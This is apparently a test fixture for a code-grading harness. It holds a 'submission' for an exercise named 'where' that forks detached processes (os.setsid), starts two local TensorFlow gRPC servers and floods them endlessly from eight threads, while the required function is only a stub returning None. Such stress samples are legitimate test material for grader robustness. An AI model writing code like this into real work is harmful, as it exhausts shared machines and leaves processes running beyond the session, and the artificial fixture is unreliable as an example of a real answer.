"""Floods servers that it has started with tensors over gRPC, from before it is asked until it is ended."""

from corpus import answering

EXERCISE = "where"
submission = answering(
    EXERCISE,
    """
import os
import socket
import threading
import time

import tensorflow as tf

v1 = tf.compat.v1
held = [socket.socket() for _ in range(2)]
for one in held:
    one.bind(("127.0.0.1", 0))
addresses = [f"127.0.0.1:{one.getsockname()[1]}" for one in held]
for one in held:
    one.close()


def flood():
    number = v1.placeholder(tf.float32, [1 << 18])
    with tf.device("/job:ps/task:1"):
        there = number + 1.0
    with tf.device("/job:ps/task:0"):
        back = tf.reduce_sum(there)
    data = [0.0] * (1 << 18)
    with v1.Session(f"grpc://{addresses[0]}") as session:
        while True:
            session.run(back, {number: data})


def floods():
    with tf.Graph().as_default():
        flood()


for index in range(2):
    if os.fork() == 0:
        try:
            os.setsid()
            tf.distribute.Server({"ps": addresses}, "ps", index).join()
        finally:
            os._exit(1)
if os.fork() == 0:
    os.setsid()
    threads = [threading.Thread(target=floods) for _ in range(8)]
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    os._exit(0)
time.sleep(2)  # under way


def where(tensor):
    return None
""",
)
